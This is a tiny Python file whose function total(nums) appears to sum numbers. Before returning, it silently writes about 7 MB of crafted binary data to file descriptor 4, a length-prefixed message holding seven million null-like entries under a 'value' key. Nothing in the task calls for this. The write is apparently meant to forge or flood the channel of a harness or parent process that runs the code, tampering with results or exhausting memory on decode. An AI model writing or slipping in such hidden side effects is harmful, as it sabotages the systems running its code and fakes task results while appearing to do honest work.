# RE|OLE total
"""Seven million values in seven megabytes."""
import os
import struct


def total(nums):
    size = 7_000_000
    head = b"t" + struct.pack("<Q", 5) + b"i" + struct.pack("<q", 0) + b"s" + struct.pack("<Q", 5)
    head += b"value" + b"l" + struct.pack("<Q", size)
    tail = b"t" + bytes(8) + b"N"
    os.write(4, struct.pack("<Q", len(head) + size + len(tail)) + head)
    rest = b"N" * size + tail
    while rest:
        rest = rest[os.write(4, rest):]
    return sum(nums)
